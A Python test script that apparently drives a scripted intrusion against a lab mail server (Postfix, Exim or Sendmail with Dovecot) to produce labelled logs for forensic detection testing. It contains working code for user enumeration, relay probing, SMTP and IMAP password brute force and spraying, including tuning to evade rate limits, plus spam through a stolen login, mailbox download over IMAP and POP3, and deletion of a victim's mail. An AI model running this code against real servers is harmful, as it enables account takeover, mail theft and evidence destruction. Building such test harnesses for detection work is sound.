#!/usr/bin/env python3
"""The scripted attack of the live end-to-end test (tests/live/scenario.sh runs it as root).

Every attacker class comes from its own loopback address (127.x.y.z, bound as the source of
each connection); the legitimate users alice and bob work from 127.0.0.1 the whole time, one
message and one mailbox check every few seconds, so the log runs continuously. Stages, in order:
recon (a service scan, user enumeration by RCPT and VRFY, open-relay attempts with swaks),
initial access (SMTP AUTH brute force on carol ending in her password, a password spray from six
addresses, IMAP brute force on dave), abuse (bulk sending through carol's login from an address
that never failed a login, reading her mailbox, while carol herself sends from her office address
before and during it), theft (Postfix run: carol's whole mailbox downloaded over IMAP and her
INBOX over POP3, and after the cut slice two thirds of her INBOX expunged; paul, who reads his
mail at the office, gets a new phone on the office network that downloads everything, which is
not theft), persistence (planted by scenario.sh, then mail to the victims so the copies show in
the log), cleanup (a slice of mail.log cut out, then a logrotate-style rotation). Counts and
waits are bounded: the whole run takes about six minutes. The ground truth is written to
OUT/truth.json as it happens.

Beside the attack, three users who only ever receive mail (RECEIVERS) get bursts of inbound
mail, hundreds of messages within a minute, as after a holiday or from a mailing list: from a
list server and from correspondents' mail servers (outside addresses, port 25, no login),
once while Postfix delivers through dovecot-lda with Sieve (after the abuse stage) and once
after scenario.sh has switched it to LMTP (after the cut slice). kate's Sieve script files the
list into a folder, liam's sends vacation replies (to outside domains: discarded), nora has no
script. None of them did anything wrong: no finding may name them.

`--mta exim` runs the same attack on the Exim host of tests/live/exim/ (Debian's Exim 4 with
Dovecot for IMAP and SMTP AUTH, in a chroot with its own network namespace): Exim refuses VRFY
and EXPN, so the enumeration also tries EXPN; Exim writes its own main log, so the scenario's
times and the receivers' deliveries are read there; its logs are rotated once early (so a
compressed rotation holds carol's first office mail) and once at the end; after the
persistence, a host of the outside network the intruder added to Exim's relay networks relays
through it. Local delivery is Exim's own (mail_spool): one inbound burst, no Sieve.

`--mta sendmail` runs it on the Sendmail host of tests/live/sendmail/ (Debian's Sendmail with
Cyrus SASL through saslauthd, Dovecot for IMAP, the same chroot and namespace set-up as Exim's).
Debian's access map holds every client but 127.0.0.1 to 10 connections per 10 minutes and 10 at
once (ratecontrol, conncontrol), with a greeting pause of 5 s: the scan also talks before the
greeting (greet_pause), the guessing tools try several passwords per connection and stay under
the limits, the inbound servers send 50 messages per session, and the enumeration ends by
dropping its connection. Sendmail allows VRFY and EXPN (Debian's PrivacyOptions), and a
recipient flood trips confBAD_RCPT_THROTTLE. The relay prober's address has a name in the
host's /etc/hosts whose forward lookup gives another address (`may be forged`). Logs are
rsyslog's /var/log/mail.log, rotated with Debian's logrotate rules, once early and once at the
end, as for Exim; the planted access-map RELAY is then used from its outside network.
"""

import argparse
import base64
import concurrent.futures
import datetime as dt
import email.utils
import imaplib
import json
import os
import poplib
import random
import re
import smtplib
import socket
import subprocess
import sys
import threading
import time
from email.message import EmailMessage

HOST = "127.0.0.1"
DOMAIN = "lab.example"
LEGIT_IP = "127.0.0.1"
SCAN_IP = "127.0.1.10"
# Sendmail: Debian's access map allows one outside address 10 connections per 10 minutes, so
# the scanner sweeps from five addresses of its network, six sessions each.
SCAN_IPS_SENDMAIL = [f"127.0.1.{i}" for i in range(20, 25)]
ENUM_IP = "127.0.1.11"
BRUTE_IP = "127.0.2.10"
BRUTE_IP2 = "127.0.2.12"
# The stolen login's spam comes from a network that never failed a login: only what the
# account did tells it apart from carol's own office address, which sends beside it.
ABUSE_IP = "127.0.9.11"
CAROL_OFFICE_IP = "127.0.8.20"
SPRAY_IPS = [f"127.0.3.{i}" for i in range(10, 16)]
IMAP_BRUTE_IP = "127.0.4.10"
RELAY_IP = "127.0.5.10"
OUTSIDE_IP = "127.0.6.10"
# Inbound mail for the receive-only users: a mailing-list server and the correspondents' mail
# servers, both outside (not in mynetworks), unauthenticated on port 25 like any MX traffic.
LIST_IP = "127.0.7.10"
CORRESPONDENTS_IP = "127.0.7.11"
RECEIVERS = ["kate", "liam", "nora"]  # scenario.sh's RECEIVERS
LIST_ID = "news.newsletter.example"
# The bursts, per delivery phase: (receiver, kind, messages). "list" is the list server's
# mail (List-Id, Precedence: list); "personal" comes from distinct correspondents, three each
# in the first burst (liam's vacation script answers each correspondent once).
BURSTS = {
    "dovecot-lda+sieve": [("kate", "list", 120), ("liam", "personal", 90), ("nora", "list", 10)],
    "lmtp": [("kate", "list", 120), ("nora", "list", 100), ("liam", "personal", 10)],
}
# Mailbox theft (Postfix run; docs/live-test.md, "The theft"): after the takeover, the stolen
# login's address downloads carol's whole mailbox over IMAP, a second address of the
# attacker's network retrieves her INBOX over POP3, and, after the cut slice, the first one
# deletes most of her INBOX (\Deleted, EXPUNGE). paul, an ordinary user with a history of
# short reading sessions from his office address, gets a new phone on the same office network,
# which downloads everything: that is not theft. Their mail comes from the correspondents'
# servers (CORRESPONDENTS_IP) before anything else happens; carol and paul file some of it
# into folders from their office (APPEND), and Dovecot's mail_log plugin logs what changes.
THEFT_POP3_IP = "127.0.9.12"
PAUL_OFFICE_IP = "127.0.10.5"
PAUL_PHONE_IP = "127.0.10.23"
# Per owner: INBOX messages delivered, then folders the owner fills by APPEND.
OWNER_MAIL = {
    "carol": {"INBOX": 18, "Finance": 5, "合同": 3, "Sent": 4},
    "paul": {"INBOX": 14, "Projects": 5, "Sent": 3},
}
MAIL_LOG = "/var/log/mail.log"
# The MTA under attack (--mta): "postfix" (tests/live/scenario.sh), "exim"
# (tests/live/exim/inside.sh) or "sendmail" (tests/live/sendmail/inside.sh).
MTA = "postfix"
EXIM_MAIN_LOG = "/var/log/exim4/mainlog"
# Exim: one burst, delivered by Exim's own appendfile transport (mail_spool) into /var/mail.
EXIM_BURSTS = {
    "mail_spool": [("kate", "list", 120), ("liam", "personal", 90), ("nora", "list", 10)],
}
# Sendmail: the same burst, delivered by Debian's local mailer (sensible-mda, which runs
# mail.local).
SENDMAIL_BURSTS = {
    "local": [("kate", "list", 120), ("liam", "personal", 90), ("nora", "list", 10)],
}
# Exim: a host of the outside network (TEST-NET-3) the intruder adds to the relay networks,
# which then relays through the server without logging in (inside.sh puts it on the
# namespace's loopback interface).
RELAY_NET_IP = "198.51.100.7"
# Minutes the test's thresholds are scaled to (a real cut is judged over hours; this run
# lasts minutes): the cut is longer than GAP_MINUTES, with CONTEXT_MINUTES of traffic on
# either side.
GAP_MINUTES = 1
CONTEXT_MINUTES = 2


def password(user):
    return f"{user.capitalize()}-Pass-2026!"


def now_utc():
    return dt.datetime.now(dt.timezone.utc).replace(microsecond=0)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def log(msg):
    print(f"live attack {time.strftime('%H:%M:%S')}: {msg}", file=sys.stderr, flush=True)


def smtp(src, port=25):
    s = smtplib.SMTP(HOST, port, source_address=(src, 0), timeout=30)
    s.ehlo(f"client-{src.replace('.', '-')}.example")
    return s


def chroot_lab():
    """Whether the lab is one of the chroot labs (Exim, Sendmail), rotated early as well."""
    return MTA in ("exim", "sendmail")


def bursts():
    return {"exim": EXIM_BURSTS, "sendmail": SENDMAIL_BURSTS}.get(MTA, BURSTS)


def smtp_retrying(src, port, tries=20):
    """A connection a guessing tool insists on: when the server turns it away (Exim accepts 20
    connections at once by default, smtp_accept_max, and answers the others 421), it tries
    again a second later."""
    for n in range(tries):
        try:
            return smtp(src, port)
        except (smtplib.SMTPConnectError, smtplib.SMTPServerDisconnected, ConnectionError):
            if n == tries - 1:
                raise
            time.sleep(1)


def auth_plain(s, user, pw):
    """One AUTH PLAIN attempt; True when accepted."""
    token = base64.b64encode(f"\0{user}\0{pw}".encode()).decode()
    code, _ = s.docmd("AUTH", "PLAIN " + token)
    return code == 235


def quit_quietly(s):
    try:
        s.quit()
    except (smtplib.SMTPException, OSError):
        pass


class Imap(imaplib.IMAP4):
    """IMAP from a chosen source address."""

    def __init__(self, src):
        self.src = src
        super().__init__(HOST, 143, timeout=30)

    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), timeout, source_address=(self.src, 0))


def message(frm, to, subject):
    return f"From: <{frm}>\r\nTo: <{to}>\r\nSubject: {subject}\r\n\r\n{subject}\r\n"


def mutf7(name):
    """An IMAP mailbox name in RFC 3501's modified UTF-7 (合同 → &VAhUDA-)."""
    out, run_ = [], []

    def flush():
        if run_:
            b64 = base64.b64encode("".join(run_).encode("utf-16-be")).decode().rstrip("=")
            out.append("&" + b64.replace("/", ",") + "-")
            run_.clear()

    for ch in name:
        if 0x20 <= ord(ch) <= 0x7E:
            flush()
            out.append("&-" if ch == "&" else ch)
        else:
            run_.append(ch)
    flush()
    return '"' + "".join(out) + '"'


def unmutf7(name):
    """A modified UTF-7 mailbox name back in Unicode (&VAhUDA- → 合同)."""
    def dec(m):
        b64 = m.group(1).replace(",", "/")
        return base64.b64decode(b64 + "=" * (-len(b64) % 4)).decode("utf-16-be") if b64 else "&"
    return re.sub(r"&([^-]*)-", dec, name)


def office_mail(user, folder, i, rng):
    """One business message for `user` (sent by them when folder is Sent): a text of varied
    length, and for about a third an attachment (a PDF's worth of random bytes)."""
    words = ("order invoice payment contract delivery schedule figures quarter account "
             "signed copy release warehouse totals records budget review").split()
    partner = f"contact{i % 9}@partner{i % 4}.example"
    me = f"{user}@{DOMAIN}"
    m = EmailMessage()
    m["From"], m["To"] = (me, partner) if folder == "Sent" else (partner, me)
    m["Subject"] = f"{folder} {rng.choice(words)} {i}"
    m["Date"] = email.utils.formatdate(localtime=True)
    m["Message-ID"] = f"<{user}-{folder.encode().hex()}-{i}.{os.getpid()}@{DOMAIN}>"
    m.set_content(" ".join(rng.choice(words) for _ in range(rng.randint(40, 900))) + "\n")
    if rng.random() < 0.35:
        m.add_attachment(b"%PDF-1.4\n" + rng.randbytes(rng.randint(4_000, 60_000)),
                         maintype="application", subtype="pdf", filename=f"doc-{i}.pdf")
    return m


class Mailbox(Imap):
    """An IMAP session that counts what it fetched: body literals (BODY[], their number and
    bytes) and header-only literals, as Dovecot's logout line counts them
    (tests/fixtures/dovecot-access/README.md)."""

    def __init__(self, src, user):
        super().__init__(src)
        self.start = now_utc()
        self.bodies = self.body_bytes = self.headers = 0
        self.deleted = self.expunged = 0
        self.folders = []
        self.login(user, password(user))

    def folder_names(self):
        typ, data = self.list('""', '"*"')
        assert typ == "OK", data
        return [re.match(rb'\(.*?\) "(.*?)" (.*)$', line).group(2).decode() for line in data]

    def enter(self, raw_name, readonly=True):
        """SELECT (or EXAMINE) a folder by its name as LIST gave it; its message count."""
        typ, data = self.select(raw_name if raw_name.startswith('"') else f'"{raw_name}"', readonly)
        assert typ == "OK", (raw_name, data)
        self.folders.append(unmutf7(raw_name.strip('"')))
        return int(data[0])

    def fetch_all(self, items, uids="1:*"):
        """UID FETCH `uids` `items` in the selected folder, counting the literals received."""
        typ, data = self.uid("FETCH", uids, items)
        assert typ == "OK", data
        for part in data:
            if isinstance(part, tuple):
                if re.search(rb"BODY\[HEADER[^\]]*\] \{\d+\}$", part[0]):
                    self.headers += 1
                elif re.search(rb"BODY\[\] \{\d+\}$", part[0]):
                    self.bodies += 1
                    self.body_bytes += len(part[1])

    def delete_some(self, count):
        """\\Deleted on the first `count` messages of the selected folder, then EXPUNGE."""
        typ, data = self.uid("SEARCH", None, "ALL")
        uids = data[0].split()[:count]
        typ, data = self.uid("STORE", b",".join(uids).decode(), "+FLAGS.SILENT", "(\\Deleted)")
        assert typ == "OK", data
        self.deleted += len(uids)
        typ, data = self.expunge()
        assert typ == "OK", data
        self.expunged += len([d for d in data if d is not None])

    def record(self, logout=True):
        if logout:
            self.logout()
        else:
            self.shutdown()  # a phone losing its network
        return {"ip": self.src, "start": iso(self.start), "end": iso(now_utc()),
                "messages": self.bodies, "bytes": self.body_bytes, "header_fetches": self.headers,
                "deleted": self.deleted, "expunged": self.expunged,
                "folders": sorted(set(self.folders))}


class Pop3(poplib.POP3):
    """POP3 from a chosen source address, counting each RETR's bytes on the wire (its +OK line
    and the message's lines, as Dovecot's retr=N/BYTES counts them)."""

    def __init__(self, src):
        self.src = src
        self.wire = None
        super().__init__(HOST, 110, timeout=30)

    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), timeout, source_address=(self.src, 0))

    def _getline(self):
        line, o = super()._getline()
        if self.wire is not None and line != b".":
            self.wire += o
        return line, o


class Legit(threading.Thread):
    """alice and bob: a message every few seconds, bob checks his mailbox; from 127.0.0.1."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop = threading.Event()
        self.sent = 0

    def run(self):
        n = 0
        while not self.stop.is_set():
            n += 1
            frm, to = ("alice", "bob") if n % 2 else ("bob", "alice")
            try:
                s = smtp(LEGIT_IP, 587)
                auth_plain(s, frm, password(frm))
                s.sendmail(f"{frm}@{DOMAIN}", [f"{to}@{DOMAIN}"], message(f"{frm}@{DOMAIN}", f"{to}@{DOMAIN}", f"note {n}"))
                quit_quietly(s)
                self.sent += 1
                if n % 3 == 0:
                    m = Imap(LEGIT_IP)
                    m.login(to, password(to))
                    m.select("INBOX")
                    m.logout()
            except (smtplib.SMTPException, imaplib.IMAP4.error, OSError) as e:
                log(f"legitimate traffic: {e}")
            self.stop.wait(6)


def scan_ips():
    return SCAN_IPS_SENDMAIL if MTA == "sendmail" else [SCAN_IP]


def scan():
    def probe(i):
        src = scan_ips()[i % len(scan_ips())]
        c = socket.create_connection((HOST, 25), 30, source_address=(src, 0))
        try:
            c.recv(512)
            c.sendall(b"EHLO scanner.example\r\n")
            c.recv(1024)
        except OSError:
            pass  # turned away (Sendmail's connection rate limit)
        c.close()  # no QUIT: dropped after EHLO

    if MTA == "sendmail":
        # A scanner that does not wait for the greeting (Sendmail's greet_pause catches it),
        # then the sweep, five at a time: each waits out the greeting pause.
        for src in scan_ips()[:2]:
            c = socket.create_connection((HOST, 25), 30, source_address=(src, 0))
            c.sendall(b"EHLO scanner.example\r\n")
            try:
                c.recv(1024)
            except OSError:
                pass
            c.close()
        parallel(probe, range(25), workers=5)  # five from each address
        return
    for i in range(25):
        probe(i)


def enumerate_users():
    s = smtp(ENUM_IP)
    s.mail("probe@enum.example")
    for name in ["admin", "info", "sales", "support", "test", "oracle", "postgres", "webmaster2",
                 "billing", "hr", "office", "jobs"]:
        s.rcpt(f"{name}@{DOMAIN}")
    s.rset()
    for name in ["root2", "guest", "backup2", "manager"]:
        s.docmd("VRFY", name)
    if MTA in ("exim", "sendmail"):
        for name in ["staff", "all"]:
            s.docmd("EXPN", name)
    if MTA == "sendmail":
        s.close()  # dropped without QUIT
        return
    quit_quietly(s)


def relay_attempts():
    for i in range(5):
        subprocess.run(
            ["swaks", "--server", HOST, "--port", "25", "--local-interface", RELAY_IP,
             "--from", f"offer{i}@spammer.example", "--to", f"target{i}@victims.example",
             "--helo", "relay-test.example", "--body", "relay test", "--silent", "2"],
            check=False, timeout=60)


def parallel(fn, items, workers=8):
    """Runs fn over items on `workers` connections at once, as a guessing tool does (Dovecot
    delays every answer to an address that failed before: one at a time would take minutes)."""
    with concurrent.futures.ThreadPoolExecutor(workers) as pool:
        list(pool.map(fn, items))


def smtp_brute_force(truth):
    def guess(i):
        s = smtp_retrying(BRUTE_IP, 587)
        auth_plain(s, "carol", f"carol{i:02d}")
        quit_quietly(s)

    def guesses(i, per=3):
        """Sendmail: several guesses a connection (Debian's access map allows an address 10
        connections per 10 minutes)."""
        try:
            s = smtp(BRUTE_IP, 587)
        except (smtplib.SMTPException, OSError) as e:
            log(f"brute force connection {i}: {e}")
            return
        for j in range(per):
            auth_plain(s, "carol", f"carol{i * per + j:02d}")
        quit_quietly(s)

    if MTA == "sendmail":
        parallel(guesses, range(9), workers=9)
    else:
        # All at once, as a guessing tool opens its connections: Dovecot delays its answers to
        # an address that keeps failing, more with every failure, so guesses in a row soon wait.
        parallel(guess, range(30), workers=30)
    # Dovecot now holds every answer to this address up to 15 s, and Postfix gives up on its
    # authentication server after 10 ("Connection lost to authentication server"): the
    # guessing tool moves to the next address of its block for the password it found.
    if MTA == "sendmail":
        # saslauthd's PAM workers are still busy with the last guesses (Sendmail answers
        # `454 Temporary authentication failure` meanwhile): the tool waits a little.
        time.sleep(5)
    s = smtp(BRUTE_IP2, 587)
    token = base64.b64encode(f"\0carol\0{password('carol')}".encode()).decode()
    code, answer = s.docmd("AUTH", "PLAIN " + token)
    ok = code == 235
    at = now_utc()
    # The password works: a first message to the attacker's own mailbox proves it (and logs
    # the login by name, which Postfix does only when mail is submitted).
    if ok:
        to = "it-works@drop.example"
        s.sendmail(f"carol@{DOMAIN}", [to], message(f"carol@{DOMAIN}", to, "ok"))
    quit_quietly(s)
    assert ok, f"carol's password was refused: {code} {answer!r}"
    truth["compromised"] = {"user": "carol", "first_login": iso(at), "ip": BRUTE_IP2}


def spray():
    accounts = ["dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]

    def guess(kj):
        k, j = kj
        s = smtp(SPRAY_IPS[k], 25)
        auth_plain(s, accounts[(k + j) % len(accounts)], "Spring2026")
        quit_quietly(s)

    parallel(guess, [(k, j) for k in range(len(SPRAY_IPS)) for j in range(2)], workers=6)


def imap_brute_force():
    def guess(i):
        m = Imap(IMAP_BRUTE_IP)
        try:
            m.login("dave", f"dave{i:02d}")
        except imaplib.IMAP4.error:
            pass
        try:
            m.logout()
        except (imaplib.IMAP4.error, OSError):
            pass

    parallel(guess, range(24))


def carol_at_work(n):
    """carol's own mail, from her office address."""
    s = smtp(CAROL_OFFICE_IP, 587)
    assert auth_plain(s, "carol", password("carol"))
    to = f"bob@{DOMAIN}"
    s.sendmail(f"carol@{DOMAIN}", [to], message(f"carol@{DOMAIN}", to, f"carol's note {n}"))
    quit_quietly(s)


def abuse(truth, count=60):
    s = smtp(ABUSE_IP, 587)
    assert auth_plain(s, "carol", password("carol"))
    for i in range(count):
        to = f"buyer{i}@market{i % 7}.example"
        s.sendmail(f"carol@{DOMAIN}", [to], message(f"carol@{DOMAIN}", to, f"Great offer {i}"))
        if i == count // 2:
            carol_at_work(3)
    quit_quietly(s)
    m = Imap(ABUSE_IP)
    m.login("carol", password("carol"))
    _, count_in = m.select("INBOX")
    if int(count_in[0] or 0) > 0:
        m.fetch("1:*", "(RFC822.SIZE)")
    m.logout()
    truth["bulk"] = {"user": "carol", "ip": ABUSE_IP, "messages": count,
                     "usual_ip": CAROL_OFFICE_IP}


def fill_mailboxes(truth):
    """carol's and paul's mail: INBOX messages from the correspondents' servers (port 25,
    delivered by dovecot-lda), then each owner, from the office, creates folders and saves
    mail into them (APPEND, as a mail client saves sent mail or files a copy) and reads a few
    messages. Waits until Dovecot has stored every delivered message."""
    before, _ = stored_counts()
    for user, layout in OWNER_MAIL.items():
        rng = random.Random(f"live-theft/{user}")
        msgs = [office_mail(user, "INBOX", i, rng) for i in range(layout["INBOX"])]
        for k in range(0, len(msgs), 10):
            s = smtp(CORRESPONDENTS_IP, 25)
            for m in msgs[k:k + 10]:
                s.sendmail(m["From"], [m["To"]], m.as_bytes())
            quit_quietly(s)
    t = time.monotonic()
    while time.monotonic() - t < 60:
        now, _ = stored_counts()
        if all(now.get(("lda", u), 0) - before.get(("lda", u), 0) >= l["INBOX"]
               for u, l in OWNER_MAIL.items()):
            break
        time.sleep(0.5)
    office = {"carol": CAROL_OFFICE_IP, "paul": PAUL_OFFICE_IP}
    for user, layout in OWNER_MAIL.items():
        rng = random.Random(f"live-theft/{user}/folders")
        m = Mailbox(office[user], user)
        for folder, count in layout.items():
            if folder == "INBOX":
                continue
            typ, data = m.create(mutf7(folder))
            assert typ == "OK", data
            for i in range(count):
                msg = office_mail(user, folder, i, rng).as_bytes().replace(b"\n", b"\r\n")
                typ, data = m.append(mutf7(folder), "(\\Seen)", None, msg)
                assert typ == "OK", data
        m.logout()
    truth["theft"] = {"user": "carol", "usual_ip": CAROL_OFFICE_IP,
                      "mailbox": OWNER_MAIL["carol"], "owner_reads": [owner_reads("carol", CAROL_OFFICE_IP, 3)]}
    truth["hard_negative"] = {"user": "paul", "usual_ip": PAUL_OFFICE_IP, "phone_ip": PAUL_PHONE_IP,
                              "mailbox": OWNER_MAIL["paul"], "history": []}


def owner_reads(user, ip, n):
    """The owner's mail client at the office: the INBOX header list, the bodies of the n
    newest messages."""
    m = Mailbox(ip, user)
    count = m.enter("INBOX", readonly=False)
    m.fetch_all("(UID FLAGS BODY.PEEK[HEADER.FIELDS (FROM SUBJECT DATE)])")
    if count:
        typ, data = m.uid("SEARCH", None, "ALL")
        m.fetch_all("(UID BODY.PEEK[])", b",".join(data[0].split()[-n:]).decode())
    return m.record()


def paul_at_the_office(truth, sessions, gap=2):
    """paul's history: short reading sessions from his office address."""
    for _ in range(sessions):
        truth["hard_negative"]["history"].append(owner_reads("paul", PAUL_OFFICE_IP, 2))
        time.sleep(gap)


def download_everything(user, ip, headers_first=False, logout=True):
    """Every folder, every message's BODY.PEEK[] (with headers_first, a phone's header list
    first); the counts as Dovecot logs them."""
    m = Mailbox(ip, user)
    for name in m.folder_names():
        if m.enter(name if name.startswith('"') else f'"{name}"'):
            if headers_first:
                m.fetch_all("(UID FLAGS RFC822.SIZE BODY.PEEK[HEADER.FIELDS (FROM TO SUBJECT DATE)])")
            m.fetch_all("(UID RFC822.SIZE BODY.PEEK[])")
    if not logout:
        m.enter("INBOX")
        tag = m._new_tag()
        m.send(tag + b" IDLE\r\n")
        m.readline()
        time.sleep(2)
    return m.record(logout)


def pop3_retrieve_all(user, ip):
    """STAT, UIDL, RETR of every message, QUIT (no DELE: the mail stays on the server)."""
    p = Pop3(ip)
    start = now_utc()
    p.user(user)
    p.pass_(password(user))
    count, size = p.stat()
    p.uidl()
    wire = octets = 0
    for n in range(1, count + 1):
        p.wire = 0
        resp, _, _ = p.retr(n)
        wire += p.wire
        octets += int(resp.split()[1])
        p.wire = None
    p.quit()
    return {"ip": ip, "start": iso(start), "end": iso(now_utc()), "messages": count,
            "bytes": wire, "octets": octets, "mailbox_octets": size}


def theft(truth):
    """The stolen login downloads carol's mailbox over IMAP; a second address of the attacker's
    network takes her INBOX over POP3."""
    t = truth["theft"]
    t["imap_download"] = download_everything("carol", ABUSE_IP)
    t["pop3_retrieve"] = pop3_retrieve_all("carol", THEFT_POP3_IP)
    log(f"theft: IMAP {t['imap_download']['messages']} messages, {t['imap_download']['bytes']} bytes; "
        f"POP3 {t['pop3_retrieve']['messages']} messages, {t['pop3_retrieve']['bytes']} bytes")


def cover_up(truth):
    """Back later, the stolen login deletes most of carol's INBOX."""
    m = Mailbox(ABUSE_IP, "carol")
    count = m.enter("INBOX", readonly=False)
    m.delete_some(count * 2 // 3)
    truth["theft"]["cover_up"] = m.record()
    log(f"cover-up: {m.expunged} of carol's {count} INBOX messages expunged")


def new_phone(truth):
    """paul's new phone on the office network downloads everything, idles, loses the Wi-Fi."""
    h = truth["hard_negative"]
    h.update(download_everything("paul", PAUL_PHONE_IP, headers_first=True, logout=False))
    log(f"paul's new phone: {h['messages']} messages, {h['bytes']} bytes")


def mail_the_victims(tag):
    s = smtp(OUTSIDE_IP, 25)
    for user in ["frank", "grace", "erin"]:
        to = f"{user}@{DOMAIN}"
        s.sendmail(f"partner@supplier.example", [to], message("partner@supplier.example", to, f"invoice {tag}"))
    quit_quietly(s)


class Inbound:
    """The receivers' inbound mail: SMTP sessions of up to 10 messages from LIST_IP or
    CORRESPONDENTS_IP, numbered across the run so every message and correspondent is distinct
    (the second burst's personal mail comes from new correspondents and from earlier ones)."""

    def __init__(self):
        self.n = 0
        self.correspondent = 0

    def send(self, kind, to, count):
        src = LIST_IP if kind == "list" else CORRESPONDENTS_IP
        # Sendmail lets an outside address 10 connections per 10 minutes (Debian's access
        # map): the servers send more a session, as big senders do.
        per_session = 50 if MTA == "sendmail" else 10
        done = 0
        while done < count:
            s = smtp(src, 25)
            for _ in range(min(per_session, count - done)):
                self.n += 1
                if kind == "list":
                    frm = "news@newsletter.example"
                    env = f"bounce-{self.n}-{to}=lab.example@newsletter.example"
                    extra = f"List-Id: Weekly news <{LIST_ID}>\r\nPrecedence: list\r\n"
                    subject = f"Weekly news digest, part {self.n}"
                else:
                    # Three messages from each correspondent, then the next one; after 30 the
                    # numbering starts over at 25 (five who wrote before, then new ones).
                    k = self.correspondent // 3 if self.correspondent < 90 else 25 + (self.correspondent - 90)
                    self.correspondent += 1
                    frm = env = f"contact{k}@partner{k % 6}.example"
                    extra = ""
                    subject = f"Re: our project, note {self.n}"
                body = (f"From: <{frm}>\r\nTo: <{to}@{DOMAIN}>\r\nSubject: {subject}\r\n"
                        f"Date: {email.utils.formatdate(localtime=True)}\r\n"
                        f"Message-ID: <in-{self.n}.{os.getpid()}@{env.split('@')[1]}>\r\n"
                        f"{extra}\r\n{subject}\r\n")
                s.sendmail(env, [f"{to}@{DOMAIN}"], body)
                done += 1
            quit_quietly(s)


# A Dovecot line saying a message was stored: `lda(kate)<pid><session>: sieve: msgid=<…>:
# stored mail into mailbox 'Lists'`, `lmtp(nora)<pid><session>: msgid=<…>: saved mail to INBOX`.
STORED = re.compile(r"\b(lda|lmtp)\((\w+)\)\S*: .*(?:saved mail to |stored mail into mailbox )")
VACATION = re.compile(r"\b(lda|lmtp)\((\w+)\)\S*: .*sent vacation response to ")
# Exim's main log: `=> kate <kate@lab.example> R=local_user T=mail_spool`.
EXIM_STORED = re.compile(r" => (\w+) <\w+@lab\.example> R=local_user T=(mail_spool)\b")
# Sendmail's: `QID: to=<kate@lab.example>, delay=…, mailer=local, pri=…, dsn=2.0.0, stat=Sent`.
SENDMAIL_STORED = re.compile(r"\bto=<(\w+)@lab\.example>, .*mailer=(local), .*stat=Sent")


def stored_counts():
    """(agent, user) → messages Dovecot stored (Exim: that Exim's mail_spool transport
    delivered), and agent → vacation replies sent, from the live log so far."""
    stored, vacation = {}, {}
    try:
        text = open(EXIM_MAIN_LOG if MTA == "exim" else MAIL_LOG, errors="replace").read()
    except OSError:
        return stored, vacation
    if chroot_lab():
        for m in (EXIM_STORED if MTA == "exim" else SENDMAIL_STORED).finditer(text):
            key = (m.group(2), m.group(1))
            stored[key] = stored.get(key, 0) + 1
        return stored, vacation
    for m in STORED.finditer(text):
        stored[m.groups()] = stored.get(m.groups(), 0) + 1
    for m in VACATION.finditer(text):
        vacation[m.group(1)] = vacation.get(m.group(1), 0) + 1
    return stored, vacation


def receive_burst(inbound, path):
    """One burst for the receivers, delivered by `path`'s agent; waits (up to 3 minutes) until
    Dovecot has stored every message, so none is left for the next phase's agent."""
    agent = path if chroot_lab() else "lda" if path.startswith("dovecot-lda") else "lmtp"
    before, vac_before = stored_counts()
    t = time.monotonic()
    start = now_utc()
    for user, kind, count in bursts()[path]:
        inbound.send(kind, user, count)
    sent_s = time.monotonic() - t
    want = {u: c for u, _, c in bursts()[path]}
    while True:
        now, vac = stored_counts()
        got = {u: now.get((agent, u), 0) - before.get((agent, u), 0) for u in want}
        if all(got[u] >= want[u] for u in want) or time.monotonic() - t > 180:
            break
        time.sleep(1)
    log(f"{path}: {sum(want.values())} messages sent in {sent_s:.0f} s, stored {got} "
        f"after {time.monotonic() - t:.0f} s")
    return {"path": path, "from": iso(start), "to": iso(now_utc()), "sent": want, "stored": got,
            "vacation_replies": vac.get(agent, 0) - vac_before.get(agent, 0)}


def root_step(scenario, out, *args):
    return subprocess.run(["bash", scenario, args[0], out, *args[1:]], check=True,
                          capture_output=True, text=True).stdout


def until(t0, seconds):
    left = t0 + seconds - time.monotonic()
    if left > 0:
        time.sleep(left)


def local_prefix(t):
    """What a log line written at UTC time t starts with (rsyslog's RFC 3339, local zone;
    Exim's main log: `YYYY-MM-DD HH:MM:SS`, local zone)."""
    return t.astimezone().strftime("%Y-%m-%d %H:%M:%S" if MTA == "exim" else "%Y-%m-%dT%H:%M:%S")


def relay_through_planted_net(truth, count=5):
    """Exim, Sendmail: a host of the network the intruder added to the relay networks (the
    access map's RELAY) sends mail to outside domains without logging in, and the server
    relays it."""
    s = smtp(RELAY_NET_IP, 25)
    for i in range(count):
        to = f"lead{i}@prospects{i % 3}.example"
        s.sendmail(f"news{i}@bulk-sender.example", [to], message(f"news{i}@bulk-sender.example", to, f"Offer {i}"))
    quit_quietly(s)
    truth["attackers"]["relay_abuse"] = [RELAY_NET_IP]


def run(out, scenario):
    truth = {
        "legit": {"users": ["alice", "bob"], "ip": LEGIT_IP},
        "attackers": {
            "scan": scan_ips(), "enumeration": [ENUM_IP], "relay": [RELAY_IP],
            "smtp_brute_force": [BRUTE_IP], "spray": SPRAY_IPS, "imap_brute_force": [IMAP_BRUTE_IP],
        },
        "receivers": {"users": RECEIVERS, "ip": LIST_IP, "ips": [LIST_IP, CORRESPONDENTS_IP],
                      "messages": 0, "paths": list(bursts()),
                      "bursts": [],
                      "sieve": {} if chroot_lab() else {"kate": "fileinto", "liam": "vacation", "nora": None}},
        "thresholds": {"gap_minutes": GAP_MINUTES, "gap_context_minutes": CONTEXT_MINUTES},
        "started": iso(now_utc()),
        "mta": MTA,
    }
    inbound = Inbound()

    def burst(path):
        b = receive_burst(inbound, path)
        truth["receivers"]["bursts"].append(b)
        truth["receivers"]["messages"] += sum(b["sent"].values())
        save()
    save = lambda: json.dump(truth, open(os.path.join(out, "truth.json"), "w"), indent=1)
    legit = Legit()
    legit.start()
    t0 = time.monotonic()
    time.sleep(4)
    carol_at_work(1)
    carol_at_work(2)
    if MTA == "postfix":
        log("carol's and paul's mail; paul reads his at the office")
        fill_mailboxes(truth)
        paul_at_the_office(truth, 3)
        save()
    time.sleep(4)
    if chroot_lab():
        # The logs rotated once already (a day's rotation): carol's first office mail is
        # in the rotation that will be compressed. The minutes before the cut count from here.
        root_step(scenario, out, "rotate")
        truth["rotated"] = [iso(now_utc())]
        time.sleep(4)
        t0 = time.monotonic()
    log("recon"); scan(); enumerate_users(); relay_attempts()
